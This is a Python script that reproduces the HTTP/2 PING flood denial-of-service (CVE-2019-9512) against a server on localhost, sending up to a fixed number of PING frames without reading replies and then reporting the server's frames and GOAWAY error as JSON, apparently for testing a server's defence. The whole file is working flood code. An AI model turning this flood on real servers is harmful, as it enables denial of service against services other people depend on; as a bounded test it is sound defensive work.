"""A PING flood whose ACKs back up (CVE-2019-9512): a raw HTTP/2 client with a 4 KiB receive buffer that
sends PINGs in batches of 100 and reads nothing until it stops, so the server's ACKs queue up. Bounded: at
most --max PINGs, and it stops at the first failed write (the server closed). Prints what the server sent,
as JSON, for meta.json.
    ping-flood.py --port P [--max N]
"""
import argparse
import json
import socket
import struct
import time

ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
          "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
          "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]
NAMES = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--max", type=int, default=20000)
    args = ap.parse_args()
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # before connect: the window it advertises
    s.connect(("127.0.0.1", args.port))
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    time.sleep(0.05)
    s.sendall(frame(4, 1, 0))  # ACK the server's SETTINGS (it came with its first bytes)
    sent = 0
    stopped = None
    while sent < args.max:
        try:
            s.sendall(b"".join(frame(6, 0, 0, struct.pack(">Q", sent + j)) for j in range(100)))
            sent += 100
        except OSError as e:
            stopped = e.strerror
            break
    time.sleep(0.3)
    data = b""
    s.settimeout(1)
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    s.close()
    frames, goaway, i = {}, None, 0
    while i + 9 <= len(data):
        length = int.from_bytes(data[i:i + 3], "big")
        kind = data[i + 3]
        name = NAMES.get(kind, hex(kind))
        frames[name] = frames.get(name, 0) + 1
        if kind == 7 and goaway is None:
            p = data[i + 9:i + 9 + length]
            code = int.from_bytes(p[4:8], "big")
            goaway = {"lastStreamId": int.from_bytes(p[0:4], "big") & 0x7FFFFFFF,
                      "errorCode": ERRORS[code] if code < len(ERRORS) else code,
                      "debug": p[8:].decode("latin1")}
        i += 9 + length
    print(json.dumps({"pingsSent": sent, "stoppedBy": stopped, "server": {"frames": frames, "goaway": goaway}}))


main()
